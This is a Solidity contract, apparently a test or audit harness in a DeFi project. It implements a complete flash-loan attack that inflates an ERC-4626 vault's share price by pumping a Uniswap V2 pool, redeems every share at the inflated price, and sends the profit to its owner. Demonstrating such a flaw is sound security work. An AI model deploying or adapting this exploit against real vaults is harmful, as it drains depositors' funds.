// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IUniswapV2Pair} from "../../core/amm/interfaces/IUniswapV2Pair.sol";

/// @title VaultManipulationAttacker
/// @notice In one flash loan: deposits into the vault at the fair share price, pumps the strategy
/// token's pool, redeems every share at the inflated price, sells the pumped tokens back, repays.
contract VaultManipulationAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    error AttackerNotLender(address caller);
    error AttackerNotInitiator(address initiator);
    error AttackerNotOwner(address caller);

    bytes32 internal constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    IERC3156FlashLender public immutable lender;
    IERC4626 public immutable vault;
    IUniswapV2Pair public immutable pair;
    IERC20 public immutable asset;
    IERC20 public immutable strategyToken;

    constructor(
        IERC3156FlashLender lender_,
        IERC4626 vault_,
        IUniswapV2Pair pair_,
        IERC20 strategyToken_
    ) {
        owner = msg.sender;
        lender = lender_;
        vault = vault_;
        pair = pair_;
        asset = IERC20(vault_.asset());
        strategyToken = strategyToken_;
    }

    /// @notice Flash-borrows `deposit + pump`: deposits `deposit`, pumps the pool with `pump`.
    function attack(uint256 deposit, uint256 pump) external {
        if (msg.sender != owner) revert AttackerNotOwner(msg.sender);
        lender.flashLoan(this, address(asset), deposit + pump, abi.encode(deposit));
        asset.safeTransfer(owner, asset.balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address initiator,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        if (msg.sender != address(lender)) revert AttackerNotLender(msg.sender);
        if (initiator != address(this)) revert AttackerNotInitiator(initiator);
        uint256 deposit = abi.decode(data, (uint256));

        asset.forceApprove(address(vault), deposit);
        uint256 shares = vault.deposit(deposit, address(this));
        uint256 bought = _swap(asset, amount - deposit);
        vault.redeem(shares, address(this), address(this));
        _swap(strategyToken, bought);

        asset.forceApprove(address(lender), amount + fee);
        return CALLBACK_SUCCESS;
    }

    /// @dev Sells `amountIn` of `tokenIn` into the pair at the constant-product price, fee 0.3%.
    function _swap(IERC20 tokenIn, uint256 amountIn) internal returns (uint256 amountOut) {
        (uint112 reserve0, uint112 reserve1, ) = pair.getReserves();
        bool inIsToken0 = pair.token0() == address(tokenIn);
        (uint256 reserveIn, uint256 reserveOut) = inIsToken0
            ? (uint256(reserve0), uint256(reserve1))
            : (uint256(reserve1), uint256(reserve0));
        uint256 amountInWithFee = amountIn * 997;
        amountOut = (amountInWithFee * reserveOut) / (reserveIn * 1000 + amountInWithFee);
        tokenIn.safeTransfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = inIsToken0
            ? (uint256(0), amountOut)
            : (amountOut, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }
}
